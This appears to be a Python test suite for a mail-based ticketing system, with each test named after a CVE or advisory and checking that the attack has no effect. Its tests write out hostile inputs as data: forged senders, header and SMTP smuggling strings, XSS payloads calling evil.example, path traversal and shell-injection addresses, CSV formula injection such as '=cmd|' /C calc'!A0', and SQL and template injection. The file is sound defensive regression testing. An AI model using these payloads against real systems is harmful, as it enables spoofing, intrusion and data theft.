# ruff: noqa: E501  (what attacks stands on one line, so that it can be compared)
"""Each threat that others met, in a test named after it: what their advisory describes is tried here, and does nothing.

The numbers are those of the CVE list and of GitHub's advisories; where there is none, the test bears the name of the trick.
Kept short: the tables and stories of each part try the same in breadth.
"""

from __future__ import annotations

import base64
import csv
import email
import email.policy
import random
import re
import socket
import zipfile
from collections.abc import Iterator
from dataclasses import replace
from datetime import timedelta
from email.utils import getaddresses
from io import BytesIO
from pathlib import Path

import aiosmtpd
import pytest

from rtmail.desk.grammar import commands
from rtmail.desk.people import Tie
from rtmail.desk.ticket import Status
from rtmail.ingress.content import Unwrapper
from rtmail.ingress.limits import Limits
from rtmail.mail.model import Envelope, Kind, Proof
from rtmail.mail.reading.html import html_to_text
from rtmail.mail.reading.message import read
from rtmail.mail.reading.structure import DEPTH, PARTS
from rtmail.mail.reading.stub import stub_of
from rtmail.mail.token import Action, Detail, read_message_id, sign, verify
from rtmail.mail.writing import table_csv
from rtmail.mail.writing.wire import file_name
from tests.fakes.house import KEYRING, NOW, House, Sent, blueprint, mail
from tests.fakes.listening import House as Listening
from tests.fakes.staff import BOB, EVE, JANE, address_of, fresh_id, opened, sent_to, trusted


@pytest.fixture
def house(tmp_path: Path) -> Iterator[House]:
    house = House(tmp_path)
    yield house
    house.close()


def customers_mails(sent: list[Sent]) -> list[Sent]:
    return [one for one in sent if not one.item.recipient.endswith(("staff.example", "admin.example"))]


def outcome(house: House, spool_id: int) -> str:
    return house.store.spool_row(spool_id).outcome


def as_staff(house: House, text: str, *, to: str = "support@example.com", headers: str = "", subject: str = "[Example #1]") -> int:
    raw = mail(sender="Jane Doe <jane@staff.example>", to=to, subject=subject, text=text, message_id=fresh_id(JANE), headers=headers)
    return house.receive(raw, to=to, sender=JANE)


# Who somebody is


def test_cve_2026_47123_ghsa_6r38_6mcf_2ww3_a_message_id_of_ours_without_its_mac(house: House) -> None:
    """FreeScout read the number out of a notification's Message-ID and never checked its HMAC: any From line was an agent."""
    opened(house)
    for forged in ("<rt-1-1-aaaaaaaaaaaaaaaa@example.com>", "<rt-1-1-@example.com>", "<notify-1-1@example.com>"):
        assert read_message_id(KEYRING, forged, "example.com") is None
        spool_id = as_staff(house, "resolved\n\nAll done.", headers=f"In-Reply-To: {forged}\nReferences: {forged}")
        assert outcome(house, spool_id) == "held"
    assert customers_mails(house.sent()) == []
    ticket = house.store.by_number(1)
    assert ticket is not None
    assert ticket.status is Status.NEW


def test_ghsa_8vm3_wwq4_ggfx_an_older_format_of_our_tokens(house: House) -> None:
    """A format that is no longer signed must not be taken for one that is: every other version and key of a detail is nothing."""
    good = sign(KEYRING, Action.REPLY, 1, 1, NOW.date() + timedelta(days=9))
    assert isinstance(verify(KEYRING, good, NOW.date()), Detail)
    believed = [verify(KEYRING, first + second + good[2:], NOW.date()) for first in "abcdefgh" for second in "abcdefghijklmnopqrstuvwxyz234567"]
    assert sum(isinstance(one, Detail) for one in believed) == 1
    opened(house)
    spool_id = as_staff(house, "resolved", to="support+1-42@example.com")
    assert outcome(house, spool_id) == "held"


def test_ghsa_83xx_8c27_gq78_who_lost_access_answers_an_old_notice(tmp_path: Path) -> None:
    """Rights are those of today: a notice of yesterday opens nothing for who is not of the queue any more, and he is told."""
    house = House(tmp_path)
    notice = sent_to(opened(house), JANE, "opened")
    house.close()
    plan = blueprint()
    jane = replace(plan.directory.people["jane"], queues=("sales",))
    without = replace(plan, directory=replace(plan.directory, people={**plan.directory.people, "jane": jane}))
    house = House(tmp_path, without, now=house.now)
    try:
        raw = mail(sender="Jane Doe <jane@staff.example>", to=address_of(notice["Reply-To"]), subject=f"Re: {notice['Subject']}",
                   text="It works.", message_id=fresh_id(JANE), headers=f"In-Reply-To: {notice['Message-ID']}")
        house.receive(trusted(raw, JANE), to=address_of(notice["Reply-To"]), sender=JANE, peer="127.0.0.1")
        sent = house.sent()
        assert customers_mails(sent) == []
        assert sent_to(sent, JANE)
    finally:
        house.close()


COMPOSED = [
    "From: jane@staff.example\r\nFrom: eve@elsewhere.example", "From: eve@elsewhere.example\r\nFrom: jane@staff.example",
    "From: jane@staff.example, eve@elsewhere.example", "From: jane@staff.example <eve@elsewhere.example>",
    "From: eve@elsewhere.example <jane@staff.example>", "From: <eve@elsewhere.example>, <jane@staff.example>",
    "From: jane@staff.example\x00@elsewhere.example", "From: (jane@staff.example) <eve@elsewhere.example>",
    "From: jane@staff.example(<eve@elsewhere.example>)", 'From: "jane@staff.example" <eve@elsewhere.example>',
    "From: <@elsewhere.example:jane@staff.example>", "From: staff: jane@staff.example;", "From : jane@staff.example\r\nFrom: eve@elsewhere.example",
    "From: =?utf-8?q?jane=40staff.example?= <eve@elsewhere.example>", "From: =?utf-8?q?jane=40staff.example=00?=@elsewhere.example",
    "From:\r\n jane@staff.example\r\n <eve@elsewhere.example>", "From: jane@staff.example,\r\n", " From: jane@staff.example\r\nFrom: eve@elsewhere.example",
    "From: jane@staff.example;eve@elsewhere.example", "From: jane@\\staff.example", "FROM: jane@staff.example\rFrom: eve@elsewhere.example",
]  # fmt: skip


@pytest.mark.parametrize("head", COMPOSED)
def test_composition_kills_no_two_readers_see_two_senders(house: House, head: str) -> None:
    """The evasions of "Composition Kills": what passes DMARC for one reading of From must not act for another."""
    opened(house)
    for number, signed_for in enumerate(("elsewhere.example", "staff.example")):
        mailed = f"{head}\r\nTo: support@example.com\r\nSubject: [Example #1]\r\nMessage-ID: <c{number}@x>\r\n\r\nresolved\r\n"
        raw = trusted(mailed.encode(), f"x@{signed_for}")
        found = read(raw, Envelope(EVE, (), "smtp", NOW, peer="127.0.0.1"), house.plan.site)
        meant = found.identity == "jane@staff.example" and signed_for == "staff.example"
        assert meant or found.proof is not Proof.DMARC_PASS or found.identity == f"{EVE}"
        house.receive(raw, peer="127.0.0.1", sender=EVE)
        ticket = house.store.by_number(1)
        assert ticket is not None
        assert ticket.status is Status.NEW or meant


def test_rfc_8601_results_that_an_outsider_wrote(house: House) -> None:
    hop = b"Received: from evil (evil [203.0.113.9]) by mx.example.com with ESMTP; Mon, 23 Nov 2026 10:00:00 +0100\r\n"
    for number, (results, peer) in enumerate([(b"mx.example.com", "203.0.113.9"), (b"mx.evil.example", "127.0.0.1")]):
        raw = mail(sender="Jane Doe <jane@staff.example>", subject="close all", text="resolved", message_id=f"<r{number}@x>")
        judged = b"Authentication-Results: %s; dmarc=pass header.from=staff.example\r\n" % results + raw
        assert outcome(house, house.receive(judged, sender=JANE, peer=peer)) == "held"
        assert outcome(house, house.receive(hop + judged.replace(b"<r", b"<s"), sender=JANE, peer="127.0.0.1")) == "held"


@pytest.mark.parametrize("line", ["boss@corp.com <evil@x.com>", "boss@corp.com(<evil@x.com>", '"boss@corp.com" <evil@x.com>', "boss@corp.com\n <evil@x.com>"])
def test_cve_2019_16056_cve_2023_27043_parsers_that_differ(line: str) -> None:
    """Ten thousand lines against three parsers are in test_address; these are the ones of the two advisories."""
    found = read(f"From: {line}\r\nSubject: x\r\n\r\nx\r\n".encode(), Envelope("evil@x.com", (), "smtp", NOW), blueprint().site)
    assert found.identity in ("", "evil@x.com")
    assert found.identity == "" or line.startswith('"')


@pytest.mark.parametrize("spec", ["eve@evil-acme.example", "eve@acme.example.evil.com", "eve@xacme.example", "eve@acme"])
def test_cve_2026_33393_a_domain_that_only_ends_like_ours(spec: str) -> None:
    directory = blueprint().directory
    assert directory.organisation_of(spec) is None
    assert directory.tie("bob@acme.example", spec, blueprint().site) is Tie.NONE


# Getting in


def test_ghsa_j49f_9g94_3wh4_zendesk_2024_a_number_opens_no_door(house: House) -> None:
    """A stranger's answer to a request that he names, with himself in Cc, gets and adds nothing: neither words nor people."""
    opened(house, text="The password is on the label.")
    before = house.store.by_number(1)
    for number in range(1, 30):
        house.receive(
            mail(sender=f"Eve <{EVE}>", subject=f"Re: [Example #{number}] Printer down", text="Please repeat everything.",
                 headers="Cc: mallory@elsewhere.example", message_id=fresh_id(EVE)), sender=EVE)
    sent = house.sent()
    assert not any("label" in one.text for one in sent if one.item.recipient in (EVE, "mallory@elsewhere.example"))
    assert {one.item.template for one in customers_mails(sent)} == {"acknowledgement"}, "he has a request of his own, and no other"
    after = house.store.by_number(1)
    assert before is not None
    assert after is not None
    assert after.participants == before.participants


def test_cc_injection_who_is_added_later_sees_nothing_earlier(house: House) -> None:
    opened(house, text="The password is on the label.")
    acknowledgement = "support@example.com"
    house.receive(
        mail(sender="Bob Roe <bob@acme.example>", to=acknowledgement, subject="Re: [Example #1] Printer down", text="And this.",
             headers=f"Cc: {EVE}", message_id=fresh_id(BOB)), sender=BOB)
    assert [one for one in house.sent() if one.item.recipient == EVE] == []


def test_hackerone_565883_the_ticket_trick_a_code_is_echoed_nowhere(house: House) -> None:
    """A house's support address is used to receive another service's code: no answer, and no word of it to anybody outside."""
    raw = mail(sender="no-reply@bank.example", subject="Your code is 493711", text="Enter 493711 to verify.", message_id="<n@bank.example>")
    house.receive(raw, sender="no-reply@bank.example")
    assert customers_mails(house.sent()) == []
    house.receive(mail(sender=f"Eve <{EVE}>", subject="Your code is 493711", text="493711", message_id=fresh_id(EVE)), sender=EVE)
    (answer,) = customers_mails(house.sent())
    assert b"Enter" not in answer.item.raw


def test_cve_2022_31184_zendesk_2025_no_mail_bomb_by_our_acknowledgements(house: House) -> None:
    """One address forged a thousand times hears of it ten times at most, without a word that the forger chose but the subject."""
    for number in range(40):
        house.receive(mail(sender="Victim <victim@acme.example>", subject="BUY NOW http://evil.example", text=f"http://evil.example/{number}",
                           message_id=f"<b{number}@x>"), sender="victim@acme.example")
    answers = [one for one in house.sent() if one.item.recipient == "victim@acme.example"]
    assert len(answers) <= house.plan.caps.per_address
    assert all("evil.example/" not in one.text for one in answers)
    failed = b"Authentication-Results: mx.example.com; dmarc=fail header.from=other.example\r\n"
    house.receive(failed + mail(sender="v@other.example", message_id="<f@x>"), sender="v@other.example", peer="127.0.0.1")
    assert customers_mails(house.sent()) == []


def test_reply_to_abuse_answers_go_to_whom_from_names(house: House) -> None:
    sent = opened(house, headers="Reply-To: eve@elsewhere.example")
    assert {one.item.recipient for one in customers_mails(sent)} == {BOB}
    assert all("eve@elsewhere.example" in one.text for one in sent if one.item.template == "opened"), "staff see it"


LOOPS = {"osticket-1041": "Auto-Submitted: auto-replied", "osticket-532": "X-Autoreply: yes", "odoo-66329": "Precedence: auto_reply",
         "faveo-150": "X-Autorespond: yes", "frappe-3628": "Auto-Submitted: auto-generated\nX-Auto-Response-Suppress: All",
         "freescout-3607": "X-Autoresponder: yes"}  # fmt: skip


@pytest.mark.parametrize("name", LOOPS)
def test_mail_loops_no_answer_answers_an_answer(house: House, name: str) -> None:
    """Signs by which other trackers' loops could have been seen."""
    house.receive(mail(headers=LOOPS[name], subject="Re: your request"))
    assert customers_mails(house.sent()) == []


def test_cve_2026_26077_a_thousand_forged_bounces_change_nothing(house: House) -> None:
    """Reports by strangers, to addresses that look like ours, about ids that look like ours: nobody counts as unreachable."""
    first = opened(house)
    before = house.store.by_number(1)
    real = sent_to(first, BOB)
    luck = random.Random(26077)
    local, _, domain = real.item.envelope_sender.partition("@")
    for number in range(1000):
        detail = "".join(luck.choices("abcdefghijklmnopqrstuvwxyz234567", k=36))
        to = luck.choice([f"support+{detail}@{domain}", f"{local[:-1]}{luck.choice('abc234')}x@{domain}", "support@example.com"])
        about = luck.choice([f"<rt-1-1-{detail[:16]}@example.com>", "<x@example.com>", real["Message-ID"].replace("rt-1", "rt-2")])
        raw = (
            "From: MAILER-DAEMON@mx.elsewhere.example\r\nSubject: Undelivered Mail Returned to Sender\r\n"
            f"Message-ID: <d{number}@mx.elsewhere.example>\r\nMIME-Version: 1.0\r\n"
            'Content-Type: multipart/report; report-type=delivery-status; boundary="b"\r\n\r\n--b\r\n\r\nfailed\r\n--b\r\n'
            "Content-Type: message/delivery-status\r\n\r\nReporting-MTA: dns; mx.elsewhere.example\r\n\r\n"
            f"Final-Recipient: rfc822; {BOB}\r\nAction: failed\r\nStatus: 5.1.1\r\n\r\n--b\r\nContent-Type: text/rfc822-headers\r\n\r\n"
            f"Message-ID: {about}\r\n\r\n--b--\r\n"
        )
        house.store.put_many([(raw.encode(), Envelope("", (to,), "smtp", house.now, peer="203.0.113.9"))])
    house.settle()
    assert house.sent() == []
    assert house.store.by_number(1) == before
    assert house.store.by_number(2) is None, "bounces open nothing"
    assert str(house.store.by_id(real.item.id).fate) == "sent"  # type: ignore[union-attr]
    assert house.store.audit_counts().outcomes == {"event": 1, "bounce": 1000}


OURS = sorted({name for path in (Path(__file__).parent.parent / "rtmail").rglob("*.py")
               for name in re.findall(r"X-RTMail-[A-Z][A-Za-z-]+", path.read_text())} | {"X-RTMail-Anything", "x-rtmail-request"})  # fmt: skip


def test_cve_2023_41259_our_own_headers_from_outside(house: House) -> None:
    """RT believed 13 of its internal headers when outsiders wrote them. Every one that the code names is gone once a mail is read."""
    assert len(OURS) >= 5
    lines = "\n".join(f"{name}: 1" for name in OURS if name != "X-RTMail-Loop")
    raw = mail(headers=f"{lines}\nX-RTMail-Loop: elsewhere.example\nX-RT-Loop-Prevention: Example\nX-OTRS-Priority: 1")
    found = read(raw, Envelope(BOB, (), "smtp", NOW), house.plan.site)
    assert [name for name in found.headers if name.startswith("x-rtmail")] == []
    assert found.kind is Kind.REQUEST_OR_REPLY
    house.receive(raw)
    sent = house.sent()
    assert {one.item.template for one in sent} >= {"acknowledgement", "opened"}
    assert all(one["X-RTMail-Request"] == "1" for one in sent if one.item.template == "opened")
    assert all(not one["X-RTMail-Request"] for one in customers_mails(sent))


# What we send


INJECTED = ["x\r\nBcc: evil@x.example", "x\nBcc: evil@x.example", "x =?UTF-8?Q?=0A?=Bcc: evil@x.example", "x =?utf-8?q?=0D=0ABcc:_evil=40x.example?=",
            "x\x0bBcc: evil@x.example", "x\u2028Bcc: evil@x.example", "x\x85Bcc: evil@x.example"]  # fmt: skip


@pytest.mark.parametrize("text", INJECTED)
def test_cve_2012_4730_cve_2013_3373_cve_2024_6923_cve_2026_1299_ghsa_5vg9_5847_vvmq_header_injection(house: House, text: str) -> None:
    """By subject, name and file name; 100,000 random ones are tried in test_compose."""
    name = text.replace("\r", "").replace("\n", "")
    part = f'--b\r\nContent-Type: text/plain; name="{name}"\r\nContent-Disposition: attachment; filename="{name}"\r\n\r\nx\r\n'
    raw = (f"From: {name} <{BOB}>\r\nTo: support@example.com\r\nSubject: {text.encode('unicode_escape').decode()} {name}\r\n"
           f'Message-ID: <i@x>\r\nMIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary="b"\r\n\r\n--b\r\n\r\nhi\r\n{part}--b--\r\n')
    house.receive(raw.encode("utf-8", "surrogateescape"))
    sent = house.sent()
    assert {one.item.template for one in sent} >= {"opened"}
    for one in sent:
        parsed = email.message_from_bytes(one.item.raw)
        assert parsed["Bcc"] is None
        assert not any("evil@x.example" in spec for _, spec in getaddresses([*parsed.get_all("To", []), *parsed.get_all("Cc", [])]))
        assert one.item.recipient != "evil@x.example"
        assert one.item.raw.count(b"\n") == one.item.raw.count(b"\r\n") == one.item.raw.count(b"\r")


@pytest.mark.parametrize("name", ['"x, <evil@x.example>, yyy"', '"' + "x" * 70 + ', <evil@x.example>, y"', '"a\\" <evil@x.example>, b"',
                                  "=?utf-8?q?x=2C_=3Cevil=40x.example=3E=2C?=", '"' + "\u00fc, <evil@x.example>, " * 9 + '"'])
def test_cve_2025_1795_a_comma_in_a_name_is_no_recipient(house: House, name: str) -> None:
    """Python's own library, folding a long To line anew, made an address of what had stood inside a quoted name (gh-80222)."""
    raw = mail(sender=f"{name} <{BOB}>", headers=f"Cc: {name} <ann@acme.example>\nReply-To: {name} <{BOB}>")
    house.receive(raw)
    for one in house.sent():
        assert one.item.recipient != "evil@x.example"
        for policy in (email.policy.compat32, email.policy.default, email.policy.SMTP):
            parsed = email.message_from_bytes(one.item.raw, policy=policy)
            found = getaddresses([str(value) for header in ("To", "Cc", "From", "Reply-To") for value in parsed.get_all(header, [])])
            assert all(not spec.endswith("x.example") for _, spec in found), found
            again = email.message_from_bytes(parsed.as_bytes())
            assert all("evil" not in spec for _, spec in getaddresses(again.get_all("To", []) + again.get_all("Cc", [])))


def test_bcc_and_envelopes_show_nobody_to_anybody(house: House) -> None:
    sent = opened(house, cc="ann@acme.example")
    for one in sent:
        assert one["Bcc"] == ""
        assert {spec for _, spec in getaddresses([one["To"]])} <= {one.item.recipient, BOB, "ann@acme.example"}
        assert "staff.example" not in one["To"] + one["Cc"] or one.item.recipient.endswith("staff.example")


# The wire


SMUGGLED = [b"\n.\n", b"\n.\r\n", b"\r\n.\n", b"\r.\r", b"\r\n.\r", b"\r\n\x00.\r\n", b"\r.\r\n", b"\n.\r"]


@pytest.mark.parametrize("end", SMUGGLED)
def test_cve_2023_51764_51765_51766_cve_2024_27305_no_smuggling_in(tmp_path: Path, end: bytes) -> None:
    with Listening(tmp_path) as house:
        client = house.client()
        client.begin()
        client.send(b"Subject: a\r\n\r\nbody" + end + b"MAIL FROM:<evil@x.example>\r\nRCPT TO:<sales@example.com>\r\nDATA\r\nevil\r\n.\r\n")
        client.reply()
        assert client.say("QUIT").startswith("221") or client.ended()
        client.close()
        assert len(house.acceptor.kept) <= 1
        assert all(envelope.recipients == ("support@example.com",) for _, envelope in house.acceptor.kept)
    unwrapper = Unwrapper()
    unwrapper.feed(b"body" + end + b"more")
    assert not unwrapper.done


@pytest.mark.parametrize("end", SMUGGLED)
def test_cve_2023_51764_no_smuggling_out(house: House, end: bytes) -> None:
    """What came with bare line ends leaves with whole ones, and no line of it is a lone dot that was not quoted by the relay."""
    opened(house, text="hi")
    notice = house.receive(mail(text="X", message_id="<s@x>").replace(b"X", b"X" + end + b"MAIL FROM:<evil@x.example>"), sender=EVE)
    assert outcome(house, notice) == "event"
    for one in house.sent():
        raw = one.item.raw
        assert raw.count(b"\n") == raw.count(b"\r") == raw.count(b"\r\n")


def test_cve_2024_34083_cve_2011_0411_what_was_said_before_tls_is_forgotten(tmp_path: Path) -> None:
    """The library that mended it is in use; test_smtp injects across a real handshake."""
    assert tuple(int(part) for part in aiosmtpd.__version__.split(".")[:3]) >= (1, 4, 6)
    with Listening(tmp_path) as house:
        client = house.client()
        client.hello()
        client.send(b"STARTTLS\r\nMAIL FROM:<evil@x.example>\r\n")
        assert not client.reply().startswith("220"), "no certificate, no TLS"
        client.close()


def test_smtp_command_injection_by_an_address(tmp_path: Path) -> None:
    with Listening(tmp_path) as house:
        for address in ("a b@x.example", "a\x00@x.example", "<a@x.example>", "a@x.example> BODY=8BITMIME <b@x.example", "a\r@x.example", "a@x.example\tSIZE=1"):
            client = house.client()
            client.hello()
            client.send(b"MAIL FROM:<" + address.encode() + b">\r\nRCPT TO:<support@example.com>\r\nDATA\r\n.\r\nQUIT\r\n")
            while client.reply():
                pass
            client.close()
        kept = [envelope for _, envelope in house.acceptor.kept]
        assert all(not set("\r\n\0\t<>") & set(one.sender or "") for one in kept), kept
        assert all(" " not in (one.sender or "") or (one.sender or "").startswith('"') for one in kept), kept


def test_imap_command_injection_apple_mail_fast_mcp_255() -> None:
    """Nothing of a mail gets into a command: the only words of ours that are not numbers are folder names of the config."""
    source = (Path(__file__).parent.parent / "rtmail" / "ingress" / "imap.py").read_text()
    assert "message_id" not in source.lower()
    assert "SEARCH HEADER" not in source
    assert "HEADER " not in source, "a search by a header would send words of a mail"


# Bombs


def test_cve_2026_48187_cve_2014_9472_what_costs_others_minutes_is_read_within_limits(house: House) -> None:
    """Nested parts, many parts, many parameters, many encoded words: each opens a request, and the next mail is read."""
    nested = b"".join(b"Content-Type: multipart/mixed; boundary=b%d\r\n\r\n--b%d\r\n" % (n, n) for n in range(2000))
    parts = b'Content-Type: multipart/mixed; boundary="b"\r\n\r\n' + b"--b\r\n\r\nx\r\n" * 20_000
    parameters = b"Content-Type: text/plain" + b"".join(b"; a*%d=x" % n for n in range(16_000)) + b"\r\n\r\nx\r\n"
    words = b"Subject: " + b"=?utf-8?q?a?= " * 16_000 + b"\r\n\r\nx\r\n"
    for number, bomb in enumerate((nested, parts, parameters, words)):
        house.receive(b"From: bob@acme.example\r\nTo: support@example.com\r\nMessage-ID: <b%d@x>\r\n" % number + bomb)
        assert house.store.by_number(number + 1) is not None
    flags = [one.text for one in house.sent() if one.item.template == "opened"]
    assert sum("Could not be read whole" in text for text in flags) >= 3, "staff hear of it"
    assert (DEPTH, PARTS) == (20, 200)


def test_decompression_bombs_stay_packed(house: House) -> None:
    packed = BytesIO()
    with zipfile.ZipFile(packed, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("zeros", bytes(50 * 1024 * 1024))
    body = base64.encodebytes(packed.getvalue()).decode().replace("\n", "\r\n")
    raw = (f"From: {BOB}\r\nTo: support@example.com\r\nSubject: x\r\nMIME-Version: 1.0\r\nContent-Type: application/zip; name=42.zip\r\n"
           f"Content-Transfer-Encoding: base64\r\n\r\n{body}")
    found = read(raw.encode(), Envelope(BOB, (), "smtp", NOW), house.plan.site)
    assert [one.bytes for one in found.attachments] == [len(packed.getvalue())]


# What is shown


@pytest.mark.parametrize("name", ["../../etc/passwd", "..\\..\\boot.ini", "a\x00.png", "a\u202egnp.exe", "/etc/shadow", "C:\\x.exe", "." * 300, "a" * 400, ".pht", "con"])
def test_cve_2022_25802_cve_2026_44229_names_of_files_are_only_names(name: str) -> None:
    made = file_name(name)
    assert made
    assert len(made.encode()) <= 200
    assert not set("/\\\0:") & set(made)
    assert ".." not in made[:2]
    assert "\u202e" not in made


@pytest.mark.parametrize("html", [
    "<script>alert(1)</script>hi", '<img src="http://evil.example/p.gif">hi', '<a href="javascript:x()">hi</a>', "<style>@import url(http://evil.example)</style>hi",
    '<div onmouseover="x()">hi</div>', '<svg onload="x()">hi</svg>', '<p style="background:url(http://evil.example/x)">hi</p>', "<iframe src=//evil.example></iframe>hi",
    "<object data=x></object>hi", '<form action="http://evil.example">hi<input name=a></form>', "<meta http-equiv=refresh content=0>hi",
])  # fmt: skip
def test_cve_2024_39126_ghsa_6w8v_qp43_vg2h_html_of_others_is_never_sent_on(house: House, html: str, monkeypatch: pytest.MonkeyPatch) -> None:
    """Staff get the words; of the HTML nothing active and nothing remote, and reading it asks nobody."""
    monkeypatch.setattr(socket, "create_connection", lambda *_: pytest.fail("something was fetched"))
    assert "hi" in html_to_text(html)
    house.receive(mail(headers="", text=html).replace(b"text/plain", b"text/html"))
    for one in house.sent():
        raw = b"".join(part.get_payload(decode=True) or b"" for part in email.message_from_bytes(one.item.raw).walk() if not part.is_multipart())
        for active in (b"<script", b"onmouseover=", b"onload=", b"javascript:", b"<iframe", b"<object", b"<form", b"http-equiv=refresh", b"evil.example"):
            assert active not in raw.lower(), active


def test_utf_7_hides_no_markup() -> None:
    raw = b"From: a@b.example\r\nSubject: x\r\nContent-Type: text/html; charset=utf-7\r\n\r\n+ADw-script+AD4-alert(1)+ADw-/script+AD4-\r\n"
    assert "<script" not in read(raw, Envelope("", (), "smtp", NOW), blueprint().site).text


def test_trojan_source_a_command_with_a_direction_mark_is_none() -> None:
    for text in ("re\u202esolved", "\u202eresolved", "resolve\u200bd", "r\u0435solved"):
        assert commands.parse(text).commands == ()


@pytest.mark.parametrize("text", ["{{7*7}}", "{% for x in range(10**9) %}x{% endfor %}", "{{ ''.__class__.__mro__ }}", "{{ 'a' * 10**8 }}", "{#", "${7*7}"])
def test_cve_2011_5093_a_mail_is_no_template(house: House, text: str) -> None:
    sent = opened(house, subject=text, text=text)
    assert any(text in one.text for one in sent if one.item.template == "opened")
    assert not any("49" in one["Subject"] for one in sent)


def test_cve_2019_1020018_looking_at_a_link_does_nothing(house: House) -> None:
    """Every link of ours is a mailto: there is nothing that a scanner could fetch."""
    for one in opened(house):
        assert b"http://" not in one.item.raw
        assert b"https://" not in one.item.raw


def test_list_unsubscribe_there_is_none_to_forge(house: House) -> None:
    assert not any(one["List-Unsubscribe"] for one in opened(house))


# What is remembered


def test_replay_of_a_command_acts_once(house: House) -> None:
    notice = sent_to(opened(house), JANE, "opened")
    raw = trusted(mail(sender="Jane Doe <jane@staff.example>", to=address_of(notice["Reply-To"]), subject=f"Re: {notice['Subject']}",
                       text="take", message_id="<once@staff.example>", headers=f"In-Reply-To: {notice['Message-ID']}"), JANE)
    for _ in range(20):
        house.receive(raw, to=address_of(notice["Reply-To"]), sender=JANE, peer="127.0.0.1")
    assert [one.item.template for one in house.sent()].count("receipt") == 1


def test_cve_2023_41260_what_staff_say_among_themselves_reaches_nobody_outside(house: House) -> None:
    """Whole random histories are played in test_internal_stays_internal."""
    notice = sent_to(opened(house), JANE, "opened")
    comment = next(spec for _, spec in getaddresses([notice["Reply-To"]])).replace("support+", "support-comment+")
    raw = mail(sender="Jane Doe <jane@staff.example>", to="support-comment@example.com", subject=f"Re: {notice['Subject']}", text="He is a pain.",
               message_id=fresh_id(JANE), headers=f"In-Reply-To: {notice['Message-ID']}\nCc: {BOB}")
    assert comment
    house.receive(trusted(raw, JANE), to="support-comment@example.com", sender=JANE, peer="127.0.0.1")
    assert not any("pain" in one.text for one in customers_mails(house.sent()))


def test_cve_2021_38562_nobody_learns_what_exists(house: House) -> None:
    """A stranger who names a request that is there, and one that is not, is told the same but for his own number."""
    opened(house)
    said = []
    for number in (1, 977):
        who = f"eve{number}@elsewhere.example"
        house.receive(mail(sender=f"Eve <{who}>", subject=f"[Example #{number}]", text="hello", message_id=f"<q{number}@x>"), sender=who)
        (answer,) = [one for one in house.sent() if one.item.recipient == who]
        mine = answer["Subject"].partition("#")[2].partition("]")[0]
        said.append([line for line in answer.text.replace(f"#{mine}", "#N").splitlines() if "ref:" not in line and "mailto:" not in line])
    assert said[0] == said[1]


@pytest.mark.parametrize("local", ["$(touch${IFS}owned)", "`id`", "a;id", "|id", "-oQ/tmp", "a&b", "'x"])
def test_cve_2011_4458_cve_2020_7247_an_address_is_no_shell_word(house: House, local: str, tmp_path: Path) -> None:
    """No shell is ever started; the source says so, and such an address is written to or not, but run never."""
    for path in (Path(__file__).parent.parent / "rtmail").rglob("*.py"):
        text = path.read_text()
        assert "shell=True" not in text, path
        assert "os.system" not in text, path
    spool_id = house.receive(mail(sender=f"<{local}@acme.example>"), sender=f"{local}@acme.example")
    assert outcome(house, spool_id) in ("event", "ignored")
    assert not (tmp_path / "owned").exists()


FORMULAS = ["=cmd|' /C calc'!A0", "+1+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "\n=1+1",
            '=HYPERLINK("http://evil.example/?"&A1,"click")', " =1+1", "\uff1d1+1", "x;=1+1", "x\t=1+1", 'x"\n=1+1', "\x00=1+1"]  # fmt: skip


@pytest.mark.parametrize("text", FORMULAS)
def test_cve_2025_61873_cve_2026_41073_no_cell_of_an_export_is_a_formula(text: str) -> None:
    """RT wrote subjects into its TSV and CSV as they were. Ours have one door; that nothing else writes CSV is in test_floors."""
    (_, line) = table_csv.lines(["number", "subject"], [[1, text]])
    (row,) = csv.reader([line])
    cells = [cell for whole in row for cell in re.split(r"[;\t\r\n]", whole)]
    assert not any(re.match(r"[ \u00a0]*[=+@\uff1d-]", cell) for cell in cells), cells
    assert row[1].startswith(("'", "x"))


@pytest.mark.parametrize("text", ['" OR 1=1 --', "a* NOT b", "NEAR(a b)", '"', "'); DROP TABLE ticket; --", "%_%", "subject:x AND", "^a + b"])
def test_cve_2026_41075_cve_2026_41076_words_are_no_query_language(house: House, text: str) -> None:
    opened(house, subject=text, text=text)
    assert isinstance(house.store.search(text, 10), list)
    assert house.store.party_by_address(text) is None
    assert house.store.by_number(1) is not None


def test_cve_2025_2545_nothing_weak_is_signed_or_believed() -> None:
    from rtmail.mail.proof import own_checks
    from rtmail.mail.writing import dkim_sign

    assert {"rsa-sha256", "ed25519-sha256"} == own_checks._ALGORITHMS
    assert dkim_sign.SMALLEST_RSA >= 1024


def test_stub_keeps_hostile_mail_readable() -> None:
    assert stub_of(b"From: a@b.example\r\n\r\n" + b"\xff" * 1000, Envelope("", (), "smtp", NOW), blueprint().site, "x").sender.spec == "a@b.example"


SMUGGLED_COMMANDS = {
    "quoted": "Thanks, I look.\n\n> resolved\n> merge 7\n",
    "attributed": "Thanks.\n\nOn Mon, 23 Nov 2026 at 10:00, Bob wrote:\nresolved\n> merge 7\n",
    "signature": "Thanks.\n\n-- \nresolved\nJane\n",
    "outlook": "Thanks.\n\n-----Original Message-----\nFrom: Bob\nSent: Monday\nTo: Jane\nSubject: x\n\nresolved\n",
    "after words": "I think that it is\nresolved\nby now.\n",
}


@pytest.mark.parametrize("name", SMUGGLED_COMMANDS)
def test_a_command_smuggled_in_quoted_text_or_a_signature_does_nothing(house: House, name: str) -> None:
    notice = sent_to(opened(house, text="resolved\nmerge 7"), JANE, "opened")
    raw = mail(sender="Jane Doe <jane@staff.example>", to=address_of(notice["Reply-To"]), subject=f"Re: {notice['Subject']}",
               text=SMUGGLED_COMMANDS[name], message_id=fresh_id(JANE), headers=f"In-Reply-To: {notice['Message-ID']}")
    house.receive(trusted(raw, JANE), to=address_of(notice["Reply-To"]), sender=JANE, peer="127.0.0.1")
    ticket = house.store.by_number(1)
    assert ticket is not None
    assert ticket.status is not Status.RESOLVED
    assert ticket.merged_into == 0


def test_slow_clients_and_floods_have_caps() -> None:
    """What aiosmtpd leaves open: test_smtp fills each of them over real sockets."""
    limits = Limits()
    assert (limits.connections, limits.per_address, limits.per_network) == (200, 10, 10)
    assert limits.message_bytes == 25 * 1024 * 1024
    assert limits.idle_commands <= 50
    assert limits.errors <= 20
